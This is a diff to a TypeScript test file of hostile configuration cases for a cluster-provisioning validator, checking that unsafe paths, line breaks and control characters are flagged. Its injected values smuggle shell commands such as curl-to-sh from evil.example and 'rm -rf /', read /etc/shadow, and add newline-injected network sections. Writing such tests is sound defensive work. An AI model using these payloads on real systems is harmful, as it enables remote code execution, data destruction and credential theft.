@@ -75,6 +75,18 @@ export const HOSTILE_CASES: HostileCase[] = [
   siteJson('images-path-command', 'root command', (s) => Object.assign(s.airGap, { imageSource: 'archives', imagesPath: '/opt/x; curl http://evil.example/x|sh #' }), { finding: 'unsafe-path' }),
   siteJson('install-device-command', 'root command', (s) => (s.os.install.device = '/dev/sda; rm -rf / #'), { finding: 'unsafe-path' }),
   siteJson('registry-ca-relative', 'root command', (s) => s.airGap.registryConfigs.push({ ...registry, caFile: '../../etc/shadow' }), { finding: 'unsafe-path' }),
+  siteJson('image-archive-name-command', 'root command', (s) => Object.assign(s.airGap, { imageSource: 'archives', imageArchives: ['rke2-images.linux-amd64.tar.zst', 'x.tar.zst;curl${IFS}evil.example|sh'] }), { finding: 'unsafe-path' }),
+  siteJson('image-archive-name-traversal', 'root command', (s) => Object.assign(s.airGap, { imageSource: 'archives', imageArchives: ['rke2-images.linux-amd64.tar.zst', '../../../etc/cron.d/x.tar.zst'] }), { finding: 'unsafe-path' }),
+  // Values written into files the designer's own stages write (network unit, registry TLS files).
+  siteJson('interface-extra-network-section', 'extra file line', (s) => Object.assign(s.nodes[3]!, { addressing: 'static', interface: 'eth0\n[Network]\nDNS=203.0.113.66' }), { finding: 'line-break' }),
+  siteJson('interface-path-traversal', 'extra file line', (s) => Object.assign(s.nodes[3]!, { addressing: 'static', interface: '../../../etc/x' }), { finding: 'interface-invalid' }),
+  siteJson('interface-shell-text', 'extra file line', (s) => Object.assign(s.nodes[3]!, { addressing: 'static', interface: 'eth0;reboot' }), { finding: 'interface-invalid' }),
+  siteJson('mac-newline', 'line break', (s) => (s.nodes[3]!.mac = '52:54:00:12:34:56\nrun: curl evil.example|sh'), { finding: 'line-break' }),
+  siteJson('gateway-extra-route', 'line break', (s) => Object.assign(s.network, { gateway: '192.168.1.1\n[Route]\nGateway=203.0.113.1' }), { finding: 'line-break' }),
+  siteJson('nameserver-newline', 'line break', (s) => (s.network.nameservers = ['192.168.1.53\nDNS=203.0.113.66']), { finding: 'line-break' }),
+  siteJson('ca-pem-carriage-return', 'control character', (s) => s.airGap.registryConfigs.push({ ...registry, caPem: '-----BEGIN CERTIFICATE-----\r\nMIIB\r\n-----END CERTIFICATE-----\r\n' }), { finding: 'control-character' }),
+  siteJson('key-pem-escape', 'control character', (s) => s.airGap.registryConfigs.push({ ...registry, keyPem: '-----BEGIN PRIVATE KEY-----\nMIIB\u001b]0;pwned\u0007\n-----END PRIVATE KEY-----\n' }), { finding: 'control-character' }),
+  siteJson('ca-pem-too-large', 'size', (s) => s.airGap.registryConfigs.push({ ...registry, caPem: `-----BEGIN CERTIFICATE-----\n${'QUFB\n'.repeat(20_000)}-----END CERTIFICATE-----\n` }), { finding: 'too-large' }),
   cloudConfig('local-images-path-command', '  import_local_images: true\n  local_images_path: "/opt/x; curl http://evil.example/x|sh #"\n', { finding: 'unsafe-path' }),
   cloudConfig('cluster-root-path-command', '  import_local_images: true\n  providerConfig:\n    cluster_root_path: "/bin/sh /x;reboot;"\n', { finding: 'unsafe-path' }),
   // Extra lines in /etc/default/rke2-*.
